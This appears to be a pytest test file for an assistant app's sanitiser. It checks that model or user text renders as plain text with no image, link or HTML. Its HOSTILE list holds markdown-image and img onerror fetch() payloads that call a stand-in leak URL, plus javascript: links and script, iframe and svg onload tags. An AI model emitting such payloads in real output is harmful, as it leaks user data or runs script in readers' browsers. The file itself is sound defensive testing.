"""Text from a model, a user or a loaded file renders as itself: no image, link, HTML or entity forms.

Checked by rendering with markdown-it (CommonMark with GFM tables and strike-through, an independent
Markdown implementation): the HTML has no tag but paragraphs and line breaks, and its text is the input.
"""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from assistant.app.markup import CUT_NOTE, MAX_CHARS, fence, plain

MD = MarkdownIt("commonmark", {"linkify": False}).enable(["table", "strikethrough"])
LEAK = "http://127.0.0.1:9/leak?d=Acme%20Corp"

HOSTILE = [
    f"![chart]({LEAK})",
    f"Here it is: ![x][1]\n\n[1]: {LEAK}",
    f"![x]\n\n[x]: {LEAK}",
    f"<img src={LEAK}>",
    f'<img src="x" onerror="fetch(\'{LEAK}\')">',
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    f"[docs]({LEAK} \"title\")",
    f"<{LEAK}>",
    f"see {LEAK} and www.example.com or mail leak@example.com",
    "&lt;img src=x&gt; and &#33;[x](http://e.com) and &#x3C;script&#x3E;",
    f"[![inner]({LEAK})](http://e.com)",
    f"[a [nested [link]]]({LEAK})",
    "<script>alert(1)</script><style>*{}</style><iframe src=//e.com></iframe>",
    "<svg onload=alert(1)>",
    "**bold** _em_ `code` ~~gone~~ $x$",
    "# Heading\n> quote\n- item\n1. first\n2) second\n---\n===\n    indented code",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\nfenced\n```",
    "back\\slash \\![x](http://e.com)",
]


def rendered(source: str) -> str:
    return MD.render(source)


def text_of(page: str) -> str:
    """The visible text of rendered HTML that has only <p> and <br> tags."""
    return html.unescape(re.sub(r"</?p>|<br />", "", page))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_renders_as_itself_with_no_tag_but_paragraphs(text):
    page = rendered(plain(text))
    tags = set(re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", page))
    assert tags <= {"p", "br"}, page
    words = re.sub(r"\s+", " ", text.replace("    ", "")).strip()  # whitespace is not the point
    assert re.sub(r"\s+", " ", text_of(page)).strip() == words


def test_an_image_in_the_middle_of_a_bold_headline_stays_text():
    page = rendered(f"**{plain('Top account: ![a](' + LEAK + ')')}**")
    assert "<img" not in page and "<strong>" in page and LEAK in html.unescape(page)


def test_long_text_is_cut_with_a_note():
    text = "a" * (MAX_CHARS + 10)
    shown = plain(text)
    assert shown.startswith("a" * MAX_CHARS) and "a" * (MAX_CHARS + 1) not in shown
    assert shown.endswith(CUT_NOTE.format(limit=MAX_CHARS))
    assert plain("short") == "short"


def test_none_is_empty():
    assert plain(None) == ""


def test_a_fence_outlasts_backticks_in_the_code():
    code = "SELECT 1 -- ```\n``` ![x](http://e.com)"
    page = rendered(fence(code, "sql"))
    assert page.count("<pre>") == 1 and "<img" not in page
    assert html.unescape(re.sub(r"<[^>]+>", "", page)).strip() == code
